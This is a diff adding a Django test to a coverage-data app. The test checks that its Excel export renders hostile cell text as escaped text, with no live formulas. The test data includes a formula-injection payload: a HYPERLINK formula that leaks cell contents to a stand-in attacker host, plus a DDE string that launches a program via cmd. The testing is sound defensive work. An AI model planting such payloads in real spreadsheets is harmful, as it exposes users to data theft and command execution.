@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+from datetime import date
 from io import BytesIO
 from typing import Any
 
@@ -10,10 +11,15 @@ from django.conf import settings
 from django.test import Client
 from openpyxl import load_workbook
 
+from jamsostek.core.spreadsheet import FORMULA_STARTS
+from jamsostek.coverage.services import denominator_set
+from jamsostek.registry.models import Region
 from tests.conftest import Personas
 from tests.coverage.conftest import REGENCIES
 
 API = "/api/coverage"
+LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik di sini")'
+SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
 def client_for(user: object, language: str = "en") -> Client:
@@ -188,3 +194,19 @@ def test_a_registered_panel_shows_below_the_figures_for_the_region_and_month(
         assert seen == [("61", "2025-03"), ("61.04", "2025-03"), ("61.01", "2025-03")]
     finally:
         panels._panels = [entry for entry in panels._panels if entry[1] != "test-panel"]
+
+
+def test_the_workbook_shows_hostile_text_as_text_and_numbers_as_numbers(province: None, personas: Personas) -> None:
+    denominator_set(actor=personas.admin, region="61.04", kind="employed", period=date(2024, 8, 1), value=1000,
+                    source=LINK, is_estimate=True, method=SUM, reason="test")  # fmt: skip
+    Region.objects.filter(code="61.04").update(name="-Ketapang+")  # as if a name came in that way
+    client = client_for(personas.analyst)
+    book = load_workbook(BytesIO(client.get("/coverage/export.xlsx").content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere
+    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+    assert {"'" + LINK, "'" + SUM, "'-Ketapang+"} <= texts
+    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
+    regencies = {row[1]: row for row in book["Regencies"].iter_rows(min_row=2, values_only=True)}
+    assert regencies["61.04"][2] == "'-Ketapang+"
+    assert regencies["61.04"][3:7] == (130, 1000, "yes", 13)  # participants, workers, estimate, UCJ: still numbers
